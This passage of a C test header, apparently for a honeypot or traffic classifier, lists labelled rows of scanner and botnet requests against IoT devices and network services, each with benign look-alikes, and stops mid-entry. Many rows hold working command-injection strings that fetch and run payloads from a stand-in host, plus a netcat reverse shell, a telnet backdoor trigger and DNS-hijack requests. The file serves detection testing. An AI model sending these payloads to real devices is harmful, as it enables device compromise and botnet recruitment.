/* payload_rows_wild: requests in the ways that bots and scanners send them (order and case of headers, encoded bytes, a body or a message in
 * a segment of its own), by rule; and what only looks like them. */
#ifndef TEST_PAYLOAD_ROWS_WILD_H
#define TEST_PAYLOAD_ROWS_WILD_H

#include "test/payload_row.h"

/* clang-format off */
static const struct payload_row payload_rows_wild[] = {
PAYLOAD_ROW("container-docker", TCP, 2375, true,
    "POST /v1.24/containers/create HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n{\"Cmd\":[\"/bin/busybox wget "
    "http://192.0.2.9/x.arm7\"]}")
PAYLOAD_ROW("database-memcached", UDP, 11211, true,
    "\000\000\000\000\000\001\000\000stats\r\n")
PAYLOAD_ROW("database-memcached", UDP, 11211, true,
    "\000\001\000\000\000\001\000\000gets p h e\n")
PAYLOAD_ROW("database-memcached", UDP, 11211, true,
    "\000\000\000\000\000\001\000\000version\r\n")
PAYLOAD_ROW("database-redis", TCP, 6379, true,
    "*1\r\n$4\r\nINFO\r\n")
PAYLOAD_ROW("infrastructure-ipmi", UDP, 623, true,
    "\006\000\377\007\000\000\000\000\000\000\000\000\000\011 \030\310\201\0008\216\004\265")
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, true,
    "\027\000\003*\000\000\000\000")
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, true,
    "\027\000\002*\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000")
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, true,
    "\343\000\004\372\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000"
    "\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000")
PAYLOAD_ROW("infrastructure-ntp", UDP, 123, true,
    "\026\002\000\001\000\000\000\000\000\000\000\000")
PAYLOAD_ROW("iot-android-adb", TCP, 5555, true,
    "CNXN\000\000\000\001\000\000\004\000\033\000\000\000M\n\000\000\274\261\247\261host::features=cmd,shell_v2\000")
PAYLOAD_ROW("iot-android-adb", TCP, 5555, true,
    "CNXN\001\000\000\001\000\000\020\000\007\000\000\0002\002\000\000\274\261\247\261")
PAYLOAD_ROW("iot-android-adb", TCP, 5555, true,
    "host::\000")
PAYLOAD_ROW("iot-android-adb", TCP, 5555, true,
    "shell:cd /data/local/tmp/; rm -rf w.sh; busybox wget http://192.0.2.9/w.sh; sh w.sh\000")
PAYLOAD_ROW("iot-android-adb", TCP, 5555, false,
    "hosts\000")
PAYLOAD_ROW("iot-android-adb", TCP, 5556, false,
    "shell:id\000")
PAYLOAD_ROW("iot-avtech", TCP, 80, true,
    "GET /cgi-bin/supervisor/Factory.cgi?action=Set&brightness=1;wget HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r"
    "\n\r\n")
PAYLOAD_ROW("iot-avtech", TCP, 80, true,
    "GET /cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;XmlAp"
    " HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-bacnet-request", UDP, 47808, true,
    "\201\n\000\021\001\004\000\005\001\014\014\002?\377\377\031K")
PAYLOAD_ROW("iot-belkin-wemo", TCP, 49152, true,
    "POST /upnp/control/basicevent1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n<u:SetSmartDevInfo xmlns:u=\""
    "urn:Belkin:service:basicevent:1\"><SmartDevURL>`wget`</SmartDevURL>")
PAYLOAD_ROW("iot-belkin-wemo", TCP, 49152, false,
    "POST /upnp/control/basicevent1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n<u:Get xmlns:u=\"urn:schemas-"
    "upnp-org:service:x:1\">")
PAYLOAD_ROW("iot-boaform", TCP, 80, true,
    "GET /boaform/admin/formLogin?username=ec8&psd=ec8 HTTP/1.0\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-boaform", TCP, 80, true,
    "POST /boaform/admin/formPing HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\ntarget_addr=%3Brm%20-rf%20/var/"
    "tmp/wlancont%3Bwget&waninf=1_INTERNET_R_VID_154")
PAYLOAD_ROW("iot-boaform", TCP, 80, true,
    "target_addr=;wget http://192.0.2.9/x -O- |sh&waninf=1_INTERNET_R_VID_154")
PAYLOAD_ROW("iot-boaform", TCP, 80, true,
    "POST /boaform/admin/formTracert HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-boaform", TCP, 80, false,
    "target_addr=192.0.2.1&wan=1")
PAYLOAD_ROW("iot-busybox", TCP, 23, true,
    "/bin/busybox SATORI\r\n")
PAYLOAD_ROW("iot-busybox", TCP, 23, true,
    "cat /proc/mounts; /bin/busybox PEACH\r\n")
PAYLOAD_ROW("iot-busybox", TCP, 23, true,
    "/bin/busybox wget;/bin/busybox tftp; /bin/busybox ECCHI\r\n")
PAYLOAD_ROW("iot-busybox", TCP, 8080, true,
    "GET /x?y=busybox+wget+-qO-+http://192.0.2.9/x.sh HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-busybox", TCP, 80, false,
    "GET /docs/busybox+manual HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-busybox", TCP, 80, false,
    "busybox-wget 1.36")
PAYLOAD_ROW("iot-busybox", TCP, 80, false,
    "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n<?p"
    "hp system('/bin/busybox wget http://192.0.2.9/bins/x.mips'); ?>")
PAYLOAD_ROW("iot-cctv-swedish", TCP, 80, true,
    "GET /language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://192.0.2.9/Mozi.a;sh${IFS}/tmp/Mo"
    "zi.a&>r&&tar${IFS}/string.js HTTP/1.0\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-coap", UDP, 5683, true,
    "@\001\001\316\273.well-known\004core")
PAYLOAD_ROW("iot-coap", UDP, 5683, true,
    "D\001}p\252\273\314\335\273.well-known\004core")
PAYLOAD_ROW("iot-dahua-discovery", UDP, 37810, true,
    " \000\000\000DHIP\000\000\000\000\000\000\000\000>\000\000\000\000\000\000\000>\000\000\000\000\000\000\000{\""
    "method\":\"DHDiscover.search\",\"params\":{\"mac\":\"\",\"uni\":1}}")
PAYLOAD_ROW("iot-digi-addp", UDP, 2362, true,
    "DIGI\000\001\000\006\377\377\377\377\377\377")
PAYLOAD_ROW("iot-digiever", TCP, 80, true,
    "POST /cgi-bin/cgi_main.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\ncgiName=time_tzsetup.cgi&page=/cf"
    "g_system_time.htm&id=69&ntp=`curl`")
PAYLOAD_ROW("iot-digiever", TCP, 80, false,
    "POST /cgi-bin/cgi_main.php HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dlink-dir", TCP, 80, true,
    "POST /getcfg.php HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nSERVICES=DEVICE.ACCOUNT&AUTHORIZED_GROUP=1%"
    "0a")
PAYLOAD_ROW("iot-dlink-dir", TCP, 80, true,
    "POST /command.php HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\ncmd=cd /var/tmp; wget")
PAYLOAD_ROW("iot-dlink-dir", TCP, 80, true,
    "POST /ping.ccp HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nccp_act=ping_v6&ping_addr=$(wget)")
PAYLOAD_ROW("iot-dlink-dir", TCP, 80, true,
    "POST /diagnostic.php HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nact=ping&dst=` wget`")
PAYLOAD_ROW("iot-dlink-dir", TCP, 80, false,
    "POST /command.php HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\npage=2")
PAYLOAD_ROW("iot-dlink-dir", TCP, 80, false,
    "POST /diagnostic.php HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nact=list")
PAYLOAD_ROW("iot-dlink-dsl2750b", TCP, 80, true,
    "GET /login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.9/x%20-O%20-%3E%20/tmp/x;sh%20/tmp/x%27$ HTTP/1.1\r\nHost:"
    " 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dlink-hnap", TCP, 80, true,
    "POST /HNAP1/ HTTP/1.0\r\nHost: 192.0.2.1\r\nAccept: */*\r\nSOAPAction: http://purenetworks.com/HNAP1/`cd /tmp "
    "&& wget http://192.0.2.9/x`\r\n\r\n")
PAYLOAD_ROW("iot-dlink-hnap", TCP, 8080, true,
    "POST /HNAP1/ HTTP/1.0\r\nsoapaction: http://purenetworks.com/HNAP1/GetDeviceSettings/`telnetd`\r\n\r\n")
PAYLOAD_ROW("iot-dlink-hnap", TCP, 8080, true,
    "POST http://192.0.2.1:80/HNAP1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dlink-nas", TCP, 80, true,
    "GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ= HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept:"
    " */*\r\n\r\n")
PAYLOAD_ROW("iot-dlink-nas", TCP, 80, true,
    "GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;id;%27 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r"
    "\n")
PAYLOAD_ROW("iot-dlink-nas", TCP, 80, false,
    "GET /cgi-bin/accounts_mgr.cgi?cmd=x HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dlink-soap", TCP, 49152, true,
    "POST /soap.cgi?service=&&iptables -P INPUT ACCEPT HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dlink-soap", TCP, 49152, true,
    "SUBSCRIBE /gena.cgi?service=`telnetd` HTTP/1.0\r\nHost: 192.0.2.9:49152\r\nCallback: <http://192.0.2.9:34033/S"
    "erviceProxy27>\r\nNT: upnp:event\r\n\r\n")
PAYLOAD_ROW("iot-dlink-soap", TCP, 49152, false,
    "SUBSCRIBE /gena.cgi HTTP/1.0\r\nNT: upnp:event\r\n\r\n")
PAYLOAD_ROW("iot-dns-change", TCP, 80, true,
    "GET /dnscfg.cgi?dnsPrimary=192.0.2.9&dnsSecondary=192.0.2.53&dnsDynamic=0&dnsRefresh=1 HTTP/1.1\r\nHost: 192.0"
    ".2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dns-change", TCP, 80, false,
    "GET /dnscfg.cgi?refresh=1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dns-change", TCP, 80, false,
    "GET /dns.cgi?dnsPrimary=192.0.2.9 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-draytek", TCP, 80, true,
    "POST /cgi-bin/mainfunction.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\naction=login&keyPath=%27%0A/b"
    "in/sh${IFS}")
PAYLOAD_ROW("iot-dropper", TCP, 80, true,
    "GET /x?cmd=wget+http://192.0.2.9/bins/arm7+-O+x HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 80, true,
    "GET /x?cmd=wget+http://192.0.2.9/Mozi.m HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 23, true,
    "cd /tmp; tftp -r mips -g 192.0.2.9\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 80, false,
    "GET /blog/curl-examples.ppc HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 80, false,
    "GET /x?f=wget-1.2.arm7.rpm HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 23, false,
    "tftp -r mips 192.0.2.9\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 80, false,
    "GET /Mozi.math HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-dropper", TCP, 80, false,
    "GET /?x=${jndi:ldap://192.0.2.9/a} HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nwget http://192.0.2.9/x.a"
    "rm7")
PAYLOAD_ROW("iot-edimax-camera", TCP, 80, true,
    "POST /camera-cgi/admin/param.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\naction=update&ipcamSource=/"
    "ntp.asp?r=20130724&NTP_enable=1")
PAYLOAD_ROW("iot-edimax-camera", TCP, 80, false,
    "POST /camera-cgi/param.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-edimax-mp", TCP, 80, true,
    "POST /goform/mp HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\ncommand=%7C%7C%20cd%20/tmp")
PAYLOAD_ROW("iot-four-faith", TCP, 80, true,
    "POST /apply.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nchange_action=gozila_cgi&submit_button=index"
    "&submit_type=adjust_sys_time&adj_time_year=$(id)")
PAYLOAD_ROW("iot-geovision", TCP, 80, true,
    "POST /DateSetting.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\ndwTimeZone=2&szSrvIpAddr=a;$(wget)")
PAYLOAD_ROW("iot-geovision", TCP, 80, true,
    "GET /PictureCatch.cgi?username=GEOVISION&password=;id; HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-geovision", TCP, 80, false,
    "GET /DateSetting.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-geovision", TCP, 80, false,
    "GET /PictureCatch.html?x=1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-goahead-wificam", TCP, 81, true,
    "GET /login.cgi?loginuse=admin&loginpas=admin HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-goahead-wificam", TCP, 81, true,
    "GET //set_ftp.cgi?loginuse=admin&loginpas=admin&next_url=ftp.htm&port=21&user=ftp&pwd=ftp&dir=/&mode=PORT&uplo"
    "ad_interval=0&svr=$(nc+192.0.2.9+1+-e+/bin/sh) HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-gpon-dasan", TCP, 80, true,
    "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nContent-Length: 118\r\n\r\nXWeb"
    "PageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://x/gpon80+-O+->/tmp/gpon80;sh+/tmp/gpon80"
    "&ipv=0")
PAYLOAD_ROW("iot-gpon-dasan", TCP, 8080, true,
    "POST /GponForm/diag_Form?style/ HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-gpon-dasan", TCP, 80, true,
    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=$(wget+http://192.0.2.9/x)&ipv=0")
PAYLOAD_ROW("iot-gpon-dasan", TCP, 80, true,
    "diag_action=ping&wan_conlist=0&XWebPageName=diag&dest_host=`id`")
PAYLOAD_ROW("iot-hikvision-auth", TCP, 80, true,
    "GET /onvif-http/snapshot?auth=YWRtaW46MTEK HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-hikvision-auth", TCP, 81, true,
    "GET /System/configurationFile?auth=YWRtaW46MTEK HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-hikvision-sadp", UDP, 37020, true,
    "<?xml version=\"1.0\" encoding=\"utf-8\"?><Probe><Uuid>13A888A9-F1B1-4020-AE9F-05607682D23B</Uuid><Types>inqui"
    "ry</Types></Probe>")
PAYLOAD_ROW("iot-hikvision-weblanguage", TCP, 80, true,
    "PUT /SDK/webLanguage HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n<?xml version=\"1.0\" encoding=\"UTF-8"
    "\"?><language>$(wget)</language>")
PAYLOAD_ROW("iot-hikvision-weblanguage", TCP, 80, true,
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(>webLib/x)</language>")
PAYLOAD_ROW("iot-hikvision-weblanguage", TCP, 80, false,
    "<?xml version=\"1.0\"?><language>en</language>")
PAYLOAD_ROW("iot-hisilicon-backdoor", TCP, 9530, true,
    "\025OpenTelnet:OpenOnce\000")
PAYLOAD_ROW("iot-huawei-hg532-exploit", TCP, 37215, true,
    "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nAuthorization: Digest username=\"dsl"
    "f-config\", realm=\"HuaweiHomeGateway\", nonce=\"8\"\r\n\r\n")
PAYLOAD_ROW("iot-huawei-hg532-exploit", TCP, 37215, true,
    "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:Upgrade x"
    "mlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g 192.0.2.9 -l /"
    "tmp/x -r /m; sh /tmp/x)</NewStatusURL>")
PAYLOAD_ROW("iot-jaws-shell", TCP, 60001, true,
    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*"
    "\r\n\r\n")
PAYLOAD_ROW("iot-jaws-shell", TCP, 80, true,
    "GET /shell?cd /tmp;wget http://192.0.2.9/x HTTP/1.1\r\n\r\n")
PAYLOAD_ROW("iot-jaws-shell", TCP, 80, true,
    "GET /shell?killall+-9+arm7;killall+-9+arm4;cd+/tmp HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-jaws-shell", TCP, 8080, true,
    "GET /shell?%75%6E%61%6D%65%20%2D%61 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-jaws-shell", TCP, 8080, true,
    "GET /shell?busybox+wget+-g+192.0.2.9 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-jaws-shell", TCP, 8080, true,
    "HEAD /shell?wget%20http://x HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-jaws-shell", TCP, 80, false,
    "GET /shell?idea=1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-jaws-shell", TCP, 80, false,
    "GET /shell?category=shoes HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-jaws-shell", TCP, 80, false,
    "GET /shell?short=1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-jaws-shell", TCP, 80, false,
    "GET /shell?%E3%82%B7 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-lblink", TCP, 8080, true,
    "POST /goform/set_LimitClient_cfg HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nCookie: user=admin\r\n\r\ntime1"
    "=00:00-00:00&time2=00:00-00:00&mac=;wget")
PAYLOAD_ROW("iot-lblink", TCP, 80, false,
    "POST /goform/set_Limit_cfg HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-linear-emerge", TCP, 80, true,
    "GET /card_scan_decoder.php?No=30&door=%60wget http://192.0.2.9/x%60 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*"
    "\r\n\r\n")
PAYLOAD_ROW("iot-linear-emerge", TCP, 80, false,
    "GET /card_scan_decoder.php?No=30&door=1 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-linksys-themoon", TCP, 8080, true,
    "POST /tmUnblock.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nsubmit_button=&change_action=&ttcp_ip=-h"
    "+%60cd+%2Ftmp")
PAYLOAD_ROW("iot-linksys-themoon", TCP, 55555, true,
    "submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h `wget`&StartEPI=1")
PAYLOAD_ROW("iot-linksys-themoon", TCP, 55555, true,
    "ttcp_ip=%2dh+%60cd")
PAYLOAD_ROW("iot-mdns", UDP, 5353, true,
    "\000\000\000\000\000\001\000\000\000\000\000\000\011_services\007_dns-sd\004_udp\005local\000\000\014\000\001")
PAYLOAD_ROW("iot-mqtt", TCP, 1883, true,
    "\020\021\000\004MQTT\004\002\000<\000\005abcde")
PAYLOAD_ROW("iot-nat-pmp", UDP, 5351, true,
    "\000\000")
PAYLOAD_ROW("iot-netgear-dgn", TCP, 80, true,
    "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.9:5/Mozi.m+-O+/tmp/netg"
    "ear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-netgear-dgn", TCP, 80, true,
    "GET /setup.cgi?next_file=afr.cfg&todo=syscmd&cmd=wget%20http HTTP/1.0\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r"
    "\n")
PAYLOAD_ROW("iot-netgear-r7000", TCP, 80, true,
    "GET /cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://192.0.2.9/mozi.m HTTP/1.1\r\nHost: 19"
    "2.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-netis", UDP, 53413, true,
    "\n")
PAYLOAD_ROW("iot-netis", UDP, 53413, true,
    "\r")
PAYLOAD_ROW("iot-netis", UDP, 53413, false,
    "\n\n")
PAYLOAD_ROW("iot-netis-backdoor", UDP, 53413, true,
    "AAAAAAAAnetcore\000")
PAYLOAD_ROW("iot-netis-backdoor", UDP, 53413, true,
    "AA\000\000AAAA cd /tmp; rm -rf *; wget http://192.0.2.9/x\000")
PAYLOAD_ROW("iot-netis-backdoor", UDP, 53413, true,
    "AA\000\000AAAA?\000")
PAYLOAD_ROW("iot-netis-backdoor", UDP, 53413, false,
    "AAAAAAAAnetkore\000")
PAYLOAD_ROW("iot-netis-wf2419", TCP, 80, true,
    "POST /cgi-bin-igd/netcore_set.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nmode_name=netcore_set&tool"
    "s_type=2&tools_ip_url=|+wget&tools_cmd=1")
PAYLOAD_ROW("iot-onvif-discovery", UDP, 3702, true,
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><e:Envelope xmlns:dn=\"http://www.onvif.org/ver10/network/wsdl\">")
PAYLOAD_ROW("iot-raisecom", TCP, 80, true,
    "GET /vpn/list_base_config.php?type=mod&parts=base_config&template=`id` HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: "
    "*/*\r\n\r\n")
PAYLOAD_ROW("iot-raisecom", TCP, 80, false,
    "GET /vpn/list_config.php?type=mod HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-realtek-goform", TCP, 80, true,
    "POST /boafrm/formSysCmd HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nsysCmd=wget+http&apply=Apply&msg=")
PAYLOAD_ROW("iot-realtek-goform", TCP, 80, true,
    "POST /boafrm/formWsc HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-realtek-goform", TCP, 80, true,
    "POST /goform/formWsc HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\nsubmit-url=%2Fwlwps.asp&resetUnCfg=0&pe"
    "erPin=12345678;cd /tmp")
PAYLOAD_ROW("iot-realtek-goform", TCP, 80, false,
    "POST /boafrm/formLogin HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-realtek-soap", TCP, 52869, true,
    "POST /picdesc.xml HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nSOAPAction: urn:schemas-upnp-org:service:WANIP"
    "Connection:1#AddPortMapping\r\n\r\n")
PAYLOAD_ROW("iot-realtek-soap", TCP, 52869, true,
    "POST /wanipcn.xml HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nSOAPAction: urn:schemas-upnp-org:service:WANIP"
    "Connection:1#AddPortMapping\r\n\r\n")
PAYLOAD_ROW("iot-realtek-soap", TCP, 52869, true,
    "<NewInternalClient>`cd /tmp/; rm -rf*; wget http://192.0.2.9/mips`</NewInternalClient><NewEnabled>1</NewEnable"
    "d>")
PAYLOAD_ROW("iot-realtek-soap", TCP, 52869, true,
    "POST /soap.cgi HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\nSOAPACTION: \"urn:schemas-upnp-org:service:WANIPC"
    "onnection:1#AddPortMapping\"\r\n\r\n<NewInternalClient>`wget`</NewInternalClient>")
PAYLOAD_ROW("iot-realtek-udpserver", UDP, 9034, true,
    "orf;cd /tmp; rm -rf *; /bin/busybox wget http://192.0.2.9/wget.sh")
PAYLOAD_ROW("iot-rtsp", TCP, 554, true,
    "OPTIONS rtsp://192.0.2.1:554 RTSP/1.0\r\nCseq: 1\r\n\r\n")
PAYLOAD_ROW("iot-rtsp", TCP, 554, true,
    "OPTIONS / RTSP/1.0\r\n\r\n")
PAYLOAD_ROW("iot-rtsp", TCP, 8554, true,
    "DESCRIBE rtsp://a/11 RTSP/1.0\r\n\r\n")
PAYLOAD_ROW("iot-ruckus", TCP, 80, true,
    "GET /forms/doLogin?login_username=admin&password=password$(curl 192.0.2.9)&x=0&y=0 HTTP/1.1\r\nHost: 192.0.2.1"
    "\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-ruckus", TCP, 80, false,
    "GET /forms/doLogin?login_username=admin&password=secret&x=0 HTTP/1.1\r\nHost: 192.0.2.1\r\nAccept: */*\r\n\r\n")
PAYLOAD_ROW("iot-sip", UDP, 5060, true,
    "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.9:5071;branch=z9\r\nFrom: <sip:1@192.0.2.9>\r\n"
    "\r\n")
PAYLOAD_ROW("iot-sip", UDP, 5062, true,
    "REGISTER sip:192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.9\r\n\r\n")
PAYLOAD_ROW("iot-sip", UDP, 5060, true,
    "INVITE sip:00972599@192.0.2.1 SIP/2.0\r\n\r\n")
PAYLOAD_ROW("iot-sip", UDP, 5060, true,
    "INVITE tel:+4412 SIP/2.0\r\n\r\n")
PAYLOAD_ROW("iot-sip", UDP, 5060, false,
    "INVITE mailto:a@b SIP/2.0\r\n\r\n")
PAYLOAD_ROW("iot-snmp", UDP, 161, true,
    "0&\002\001\001\004\006public\240\031\002\004\000\000\000\001\002\001\000\002\001\0000\0130\011\006\005+\006"
    "\001\002\001\005\000")
PAYLOAD_ROW("iot-ssdp", UDP, 1900, true,
    "M-SEARCH * HTTP/1.1\r\nHost:239.255.255.250:1900\r\nST:upnp:rootdevice\r\nMan:\"ssdp:discover\"\r\nMX:3\r\n\r"
    "\n")
PAYLOAD_ROW("iot-ssdp", UDP, 1900, true,
